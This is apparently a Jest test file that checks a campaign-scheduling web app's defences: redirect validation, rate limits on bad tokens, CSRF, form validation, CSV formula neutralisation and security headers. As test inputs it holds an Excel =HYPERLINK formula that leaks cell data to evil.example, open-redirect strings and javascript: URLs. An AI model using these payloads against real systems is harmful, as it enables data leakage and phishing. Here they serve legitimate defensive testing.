import type { IncomingHttpHeaders } from 'node:http';
import { request as httpRequest } from 'node:http';
import { parseCsv } from '../support/csv';
import { ADMIN_TOKEN, bearer, DatabaseKind, startTestApp, TestApp } from '../support/test-app';

/**
 * Issue 10, "nobody in where they do not belong": the sign-in redirect, bad-token limits, web forms
 * validated like the API, CSV cells that Excel would run, and the headers of every page.
 */
const CAMPAIGN = 'natc-see-2021';
const BAD_TOKEN_LIMIT = 3;
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

interface Answer { status: number; headers: IncomingHttpHeaders; text: string }

/** One request from a chosen loopback address (127.0.0.x), so a test can play several clients. */
function ask(t: TestApp, from: string, method: string, path: string, options: { headers?: Record<string, string>; form?: string } = {}): Promise<Answer> {
  const url = new URL(path, t.url);
  const headers: Record<string, string> = { ...options.headers };
  if (options.form !== undefined) {
    headers['content-type'] = 'application/x-www-form-urlencoded';
    headers['content-length'] = String(Buffer.byteLength(options.form));
  }
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: url.hostname, port: url.port, path: url.pathname + url.search, method, headers, localAddress: from }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (chunk: Buffer) => chunks.push(chunk));
      res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, text: Buffer.concat(chunks).toString('utf8') }));
    });
    req.on('error', reject);
    req.end(options.form);
  });
}

const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();

interface Browser { cookie: string; csrf: string }

describe.each<DatabaseKind>(['sqlite', 'postgres'])('web security over HTTP on %s', (kind) => {
  let t: TestApp;
  let hrComms: string;
  let hrCoordinator: string;

  beforeAll(async () => {
    t = await startTestApp({ kind, config: { badTokenLimitPerMinute: BAD_TOKEN_LIMIT } });
    hrComms = await t.token('comms', 'HR', 'Iva Kovač');
    hrCoordinator = await t.token('coordinator', 'HR', 'Marko Horvat');
  });
  afterAll(() => t.close());

  /** Signs in through the form (from 127.0.0.1) and reads the session's CSRF token from a page. */
  async function signIn(token: string): Promise<Browser> {
    const res = await t.http.post('/login').type('form').send({ token, next: '/approvals' }).expect(303);
    const cookie = String(res.headers['set-cookie']).split(';')[0];
    const page = await t.http.get('/approvals').set('Cookie', cookie).expect(200);
    return { cookie, csrf: /name="_csrf" value="([^"]+)"/.exec(page.text)![1] };
  }

  const apiPost = async (id: number) => (await t.http.get(`/api/posts/${id}`).set(bearer(ADMIN_TOKEN)).expect(200)).body;
  const firstPost = async (query: string) =>
    (await t.http.get(`/api/campaigns/${CAMPAIGN}/posts?limit=1&${query}`).set(bearer(ADMIN_TOKEN)).expect(200)).body.items[0];

  describe('the sign-in redirect stays on this site (issue 10 #7)', () => {
    it.each([
      '/\\evil.example', '//evil.example', '\\\\evil.example', '/\t/evil.example', 'https://evil.example/',
      'http://evil.example@scheduler.test.evil.example/', '/.//evil.example', '/a/../..//evil.example', 'javascript:alert(1)',
    ])('sends the browser home for next=%j', async (next) => {
      const res = await t.http.post('/login').type('form').send({ token: ADMIN_TOKEN, next }).expect(303);
      expect(res.headers.location).toBe('/');
      const page = await t.http.get(`/login?next=${encodeURIComponent(next)}`).expect(200);
      expect(page.text).toContain('name="next" value="/"');
    });

    it('keeps a path of this site, with its query and fragment', async () => {
      const res = await t.http.post('/login').type('form').send({ token: ADMIN_TOKEN, next: '/approvals?done=x#queue' }).expect(303);
      expect(res.headers.location).toBe('/approvals?done=x#queue');
    });
  });

  describe('bad tokens are limited per address and per token, on every route (issue 10 #8)', () => {
    const api = `/api/campaigns/${CAMPAIGN}`;
    const retryAfter = (answer: Answer) => Number(answer.headers['retry-after']);

    it('answers 429 with Retry-After to an address past the limit, even for a good token; other addresses go on', async () => {
      for (let i = 0; i < BAD_TOKEN_LIMIT; i++) expect((await ask(t, '127.0.0.2', 'GET', api, { headers: bearer(`guess-${i}`) })).status).toBe(401);
      const refused = await ask(t, '127.0.0.2', 'GET', api, { headers: bearer('guess-next') });
      expect(refused.status).toBe(429);
      expect(retryAfter(refused)).toBeGreaterThanOrEqual(1);
      expect(retryAfter(refused)).toBeLessThanOrEqual(60);
      expect(JSON.parse(refused.text)).toMatchObject({ statusCode: 429 });
      // No oracle: a blocked address cannot learn that a token is good.
      expect((await ask(t, '127.0.0.2', 'GET', api, { headers: bearer(ADMIN_TOKEN) })).status).toBe(429);
      expect((await ask(t, '127.0.0.3', 'GET', api, { headers: bearer(ADMIN_TOKEN) })).status).toBe(200);
      expect((await ask(t, '127.0.0.3', 'GET', api, { headers: bearer('guess-elsewhere') })).status).toBe(401);
      expect((await ask(t, '127.0.0.2', 'GET', '/health')).status).toBe(200);
    });

    it('leaves legitimate traffic under the limit alone', async () => {
      for (let i = 0; i < BAD_TOKEN_LIMIT - 1; i++) expect((await ask(t, '127.0.0.4', 'GET', api, { headers: bearer(`typo-${i}`) })).status).toBe(401);
      for (let i = 0; i < 30; i++) expect((await ask(t, '127.0.0.4', 'GET', api, { headers: bearer(ADMIN_TOKEN) })).status).toBe(200);
    });

    it('limits calendar ?token= guesses', async () => {
      for (let i = 0; i < BAD_TOKEN_LIMIT; i++) expect((await ask(t, '127.0.0.5', 'GET', `${api}/calendar.ics?token=cal_guess${i}`)).status).toBe(401);
      const refused = await ask(t, '127.0.0.5', 'GET', `${api}/calendar.ics?token=cal_guess`);
      expect(refused.status).toBe(429);
      expect(retryAfter(refused)).toBeGreaterThanOrEqual(1);
    });

    it('limits the sign-in form, and a blocked address gets no session even with a good token', async () => {
      for (let i = 0; i < BAD_TOKEN_LIMIT; i++) {
        const failed = await ask(t, '127.0.0.6', 'POST', '/login', { form: form({ token: `guess-${i}`, next: '/' }) });
        expect(failed.status).toBe(303);
        expect(failed.headers.location).toBe('/login?error=1&next=%2F');
      }
      const refused = await ask(t, '127.0.0.6', 'POST', '/login', { form: form({ token: ADMIN_TOKEN, next: '/' }) });
      expect(refused.status).toBe(429);
      expect(retryAfter(refused)).toBeGreaterThanOrEqual(1);
      expect(refused.headers['content-type']).toMatch(/^text\/html/);
      expect(refused.headers['set-cookie']).toBeUndefined();
    });

    it('limits guessed session cookies', async () => {
      for (let i = 0; i < BAD_TOKEN_LIMIT; i++) {
        const bounced = await ask(t, '127.0.0.7', 'GET', '/approvals', { headers: { cookie: `natc_session=guess${i}` } });
        expect(bounced.status).toBe(303);
        expect(bounced.headers.location).toBe('/login?next=%2Fapprovals');
      }
      expect((await ask(t, '127.0.0.7', 'GET', '/approvals', { headers: { cookie: 'natc_session=guess' } })).status).toBe(429);
    });

    it('counts every kind of bad token from one address together', async () => {
      const from = '127.0.0.8';
      expect((await ask(t, from, 'GET', api, { headers: bearer('mixed-1') })).status).toBe(401);
      expect((await ask(t, from, 'GET', `${api}/calendar.csv?token=mixed-2`)).status).toBe(401);
      expect((await ask(t, from, 'POST', '/login', { form: form({ token: 'mixed-3' }) })).status).toBe(303);
      expect((await ask(t, from, 'GET', '/approvals', { headers: { cookie: 'natc_session=mixed-4' } })).status).toBe(429);
    });

    it('limits one token tried from many addresses (a leaked, revoked subscription URL)', async () => {
      const addresses = ['127.0.0.9', '127.0.0.10', '127.0.0.11'];
      for (const from of addresses) expect((await ask(t, from, 'GET', `${api}/calendar.ics?token=cal_revoked`)).status).toBe(401);
      expect((await ask(t, '127.0.0.12', 'GET', `${api}/calendar.ics?token=cal_revoked`)).status).toBe(429);
      expect((await ask(t, '127.0.0.12', 'GET', `${api}/calendar.ics?token=cal_other`)).status).toBe(401);
    });
  });

  describe('web forms are validated like the API (issue 10 #9 and #14)', () => {
    let comms: Browser;
    let coordinator: Browser;
    beforeAll(async () => {
      comms = await signIn(hrComms);
      coordinator = await signIn(hrCoordinator);
    });

    const postForm = (who: Browser, path: string, body: string) => t.http.post(path).set('Cookie', who.cookie).type('form').send(body);

    it('refuses an empty text with 400 naming the field, changing nothing', async () => {
      const post = await firstPost('member=HR&network=x&status=draft');
      const res = await postForm(comms, `/posts/${post.id}/edit`, form({ _csrf: comms.csrf, revision: String(post.revision), text: '', localTime: '2021-10-18T10:00' }));
      expect(res.status).toBe(400);
      expect(res.headers['content-type']).toMatch(/^text\/html/);
      expect(res.text).toContain('text: must be');
      expect(await apiPost(post.id)).toEqual(post);
    });

    it('refuses a field given twice with 400 naming it, changing nothing', async () => {
      const post = await firstPost('member=HR&network=facebook&status=draft');
      const body = `${form({ _csrf: comms.csrf, revision: String(post.revision) })}&text=a&text=b`;
      const res = await postForm(comms, `/posts/${post.id}/edit`, body);
      expect(res.status).toBe(400);
      expect(res.text).toContain('text: is given more than once');
      expect(await apiPost(post.id)).toEqual(post);
    });

    it('refuses a query parameter given twice with 400', async () => {
      const admin = await signIn(ADMIN_TOKEN);
      const res = await t.http.get(`/campaigns/${CAMPAIGN}/calendar?member=HR&member=SI`).set('Cookie', admin.cookie);
      expect(res.status).toBe(400);
      expect(res.text).toContain('member: is given more than once');
    });

    it('refuses a revision that is not a whole number with 400 naming it', async () => {
      const post = await firstPost('member=HR&network=x&status=draft');
      const res = await postForm(comms, `/posts/${post.id}/submit`, form({ _csrf: comms.csrf, revision: 'latest' }));
      expect(res.status).toBe(400);
      expect(res.text).toContain('revision: must be');
      expect(await apiPost(post.id)).toEqual(post);
    });

    it('refuses a javascript: URL for a post made by hand, changing nothing', async () => {
      const draft = await firstPost('member=HR&network=facebook&status=draft&theme=victim-assistance');
      const submitted = (await t.http.post(`/api/posts/${draft.id}/submit`).set(bearer(hrComms)).send({ revision: draft.revision }).expect(200)).body;
      const approved = (await t.http.post(`/api/posts/${draft.id}/approve`).set(bearer(hrCoordinator)).send({ revision: submitted.revision }).expect(200)).body;
      expect(approved.status).toBe('approved');
      const res = await postForm(comms, `/posts/${draft.id}/published`, form({ _csrf: comms.csrf, revision: String(approved.revision), url: 'javascript:alert(document.cookie)' }));
      expect(res.status).toBe(400);
      expect(res.text).toContain('url: ');
      expect(await apiPost(draft.id)).toEqual(approved);
    });

    describe('the week\'s bulk forms', () => {
      let inReview: { id: number; revision: number };
      beforeAll(async () => {
        const draft = await firstPost('member=HR&network=x&status=draft&theme=capacity-building');
        inReview = (await t.http.post(`/api/posts/${draft.id}/submit`).set(bearer(hrComms)).send({ revision: draft.revision }).expect(200)).body;
      });

      it('caps the items like the API (at most 1000), changing nothing', async () => {
        const others = Array.from({ length: 1000 }, (_, i) => ({ id: 100_000 + i, revision: 1 }));
        const items = JSON.stringify([{ id: inReview.id, revision: inReview.revision }, ...others]);
        const res = await postForm(coordinator, '/approvals/approve', form({ _csrf: coordinator.csrf, items }));
        expect(res.status).toBe(400);
        expect(res.text).toContain('items: ');
        expect(await apiPost(inReview.id)).toMatchObject({ status: 'in_review', revision: inReview.revision });
        const api = await t.http.post('/api/approvals/approve').set(bearer(hrCoordinator)).send({ items: JSON.parse(items) });
        expect(api.status).toBe(400);
        expect(api.body.errors[0].field).toBe('items');
      });

      it.each([
        ['not JSON', '[{"id":'],
        ['not a list', '{"id":1,"revision":1}'],
        ['items of the wrong shape', '[{"id":"first","revision":1}]'],
      ])('answers 400 for items that are %s, changing nothing', async (_, items) => {
        const res = await postForm(coordinator, '/approvals/approve', form({ _csrf: coordinator.csrf, items }));
        expect(res.status).toBe(400);
        expect(res.text).toContain('items');
        expect(await apiPost(inReview.id)).toMatchObject({ status: 'in_review', revision: inReview.revision });
      });

      it('still approves a valid week', async () => {
        const items = JSON.stringify([{ id: inReview.id, revision: inReview.revision }]);
        const res = await postForm(coordinator, '/approvals/approve', form({ _csrf: coordinator.csrf, items })).expect(303);
        expect(res.headers.location).toBe('/approvals?done=approve&count=1');
        expect(await apiPost(inReview.id)).toMatchObject({ status: 'approved' });
      });
    });

    it('sends every page and form without a session to the sign-in page, changing nothing (one guard)', async () => {
      const post = await firstPost('member=HR&network=x&status=draft');
      for (const path of ['/', '/approvals', '/overview', `/campaigns/${CAMPAIGN}/calendar`, `/campaigns/${CAMPAIGN}/overview`, `/posts/${post.id}`, `/campaigns/${CAMPAIGN}/export.csv`, '/calendar-subscription']) {
        const res = await t.http.get(path).expect(303);
        expect(res.headers.location).toBe(`/login?next=${encodeURIComponent(path)}`);
      }
      await t.http.post(`/posts/${post.id}/submit`).type('form').send(form({ revision: String(post.revision) })).expect(303);
      expect(await apiPost(post.id)).toEqual(post);
    });

    it('checks the CSRF token of every form in the same guard, changing nothing', async () => {
      const post = await firstPost('member=HR&network=x&status=draft');
      await postForm(comms, `/posts/${post.id}/submit`, form({ revision: String(post.revision) })).expect(403);
      await postForm(comms, '/calendar-subscription', form({ _csrf: 'forged', campaign: CAMPAIGN })).expect(403);
      await postForm(comms, '/logout', form({})).expect(403);
      expect(await apiPost(post.id)).toEqual(post);
      expect((await t.http.get('/api/calendar-tokens').set(bearer(hrComms)).expect(200)).body).toEqual([]);
    });
  });

  describe('CSV exports neutralise formulas (issue 10 #10)', () => {
    const rowsOf = (text: string) => {
      const [header, ...rows] = parseCsv(text.replace(/^\uFEFF/, ''));
      return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
    };

    it('writes a post text that starts with =HYPERLINK( as text in the calendar CSV (API and web download)', async () => {
      const post = await firstPost('member=SI&network=x&status=draft');
      const edited = (await t.http.patch(`/api/posts/${post.id}`).set(bearer(ADMIN_TOKEN)).send({ revision: post.revision, text: HYPERLINK }).expect(200)).body;
      const admin = await signIn(ADMIN_TOKEN);
      for (const download of [
        t.http.get(`/api/campaigns/${CAMPAIGN}/calendar.csv?member=SI`).set(bearer(ADMIN_TOKEN)),
        t.http.get(`/campaigns/${CAMPAIGN}/export.csv?member=SI`).set('Cookie', admin.cookie),
      ]) {
        const res = await download.expect(200);
        const row = rowsOf(res.text).find((r) => r.id === String(post.id))!;
        expect(row.text).toBe(`'${HYPERLINK}`);
        expect(row).toMatchObject({ member: 'SI', length: String(edited.length), limit: '280' });
      }
    });

    it('writes comments and names that start with = + - @ as text in the audit CSV', async () => {
      const plusName = await t.token('coordinator', 'SI', '+Ana Novak');
      const siComms = await t.token('comms', 'SI', '@Tina');
      const post = await firstPost('member=SI&network=facebook&status=draft');
      const submitted = (await t.http.post(`/api/posts/${post.id}/submit`).set(bearer(siComms)).send({ revision: post.revision }).expect(200)).body;
      await t.http.post(`/api/posts/${post.id}/reject`).set(bearer(plusName)).send({ revision: submitted.revision, comment: HYPERLINK }).expect(200);
      const res = await t.http.get(`/api/campaigns/${CAMPAIGN}/audit?format=csv&member=SI`).set(bearer(ADMIN_TOKEN)).expect(200);
      const rows = rowsOf(res.text).filter((r) => r.post === String(post.id) && r.action !== 'planned');
      expect(rows.map((r) => [r.actor, r.action, r.comment])).toEqual([
        ["'@Tina", 'submitted', ''],
        ["'+Ana Novak", 'rejected', `'${HYPERLINK}`],
      ]);
      expect(rows.map((r) => r.revision)).toEqual([String(post.revision + 1), String(post.revision + 2)]);
    });
  });

  describe('security headers (issue 10 #11)', () => {
    const directives = (csp: string) => Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));

    it('sends a Content-Security-Policy without inline script, frame-ancestors none, nosniff and a Referrer-Policy on pages', async () => {
      for (const path of ['/login', '/approvals']) {
        const res = await t.http.get(path);
        const csp = directives(String(res.headers['content-security-policy']));
        expect(csp['default-src']).toEqual(["'self'"]);
        expect(csp['script-src']).toEqual(["'self'"]);
        expect(csp['style-src']).toEqual(["'self'"]);
        expect(csp['frame-ancestors']).toEqual(["'none'"]);
        expect(csp['object-src']).toEqual(["'none'"]);
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        expect(res.headers['referrer-policy']).toBe('no-referrer');
        expect(res.headers['x-frame-options']).toBe('DENY');
      }
    });

    it('marks signed-in pages and downloads Cache-Control: no-store', async () => {
      const admin = await signIn(ADMIN_TOKEN);
      for (const path of ['/approvals', `/campaigns/${CAMPAIGN}/calendar`, `/campaigns/${CAMPAIGN}/export.csv`, '/calendar-subscription']) {
        const res = await t.http.get(path).set('Cookie', admin.cookie).expect(200);
        expect(res.headers['cache-control']).toBe('no-store');
      }
    });

    it('renders no inline script, event handler or style on any page (the CSP would block them)', async () => {
      const admin = await signIn(ADMIN_TOKEN);
      const post = await firstPost('member=HR');
      const created = await t.http.post('/calendar-subscription').set('Cookie', admin.cookie).type('form').send(form({ _csrf: admin.csrf, campaign: CAMPAIGN })).expect(201);
      const pages = [created.text];
      for (const path of ['/login', '/approvals', `/campaigns/${CAMPAIGN}/calendar`, `/campaigns/${CAMPAIGN}/overview`, `/posts/${post.id}`, '/calendar-subscription']) {
        pages.push((await t.http.get(path).set('Cookie', admin.cookie).expect(200)).text);
      }
      for (const html of pages) {
        expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/i);
        expect(html).not.toMatch(/\son[a-z]+\s*=/i);
        expect(html).not.toMatch(/\sstyle\s*=|<style/i);
      }
      expect(created.text).toContain('<script src="/app.js" defer></script>');
      expect(created.text).toMatch(/<input id="url" readonly value="http:\/\/scheduler\.test\/[^"]+" data-select-on-focus>/);
      const script = await t.http.get('/app.js').expect(200);
      expect(script.headers['content-type']).toBe('text/javascript; charset=utf-8');
      expect(script.text).toContain('data-select-on-focus');
    });

    it('keeps /docs working with a CSP relaxed for its inline styles only', async () => {
      const res = await t.http.get('/docs').expect(200);
      const csp = directives(String(res.headers['content-security-policy']));
      expect(csp['script-src']).toEqual(["'self'"]);
      expect(csp['style-src']).toEqual(["'self'", "'unsafe-inline'"]);
      expect(csp['frame-ancestors']).toEqual(["'none'"]);
      const scripts = [...res.text.matchAll(/<script src="([^"]+)"/g)].map((m) => m[1]);
      expect(scripts.length).toBeGreaterThan(0);
      for (const src of scripts) await t.http.get(new URL(src, `${t.url}/docs`).pathname).expect(200);
    });

    it('sends the same headers with API answers', async () => {
      const res = await t.http.get('/health').expect(200);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(directives(String(res.headers['content-security-policy']))['frame-ancestors']).toEqual(["'none'"]);
    });
  });
});
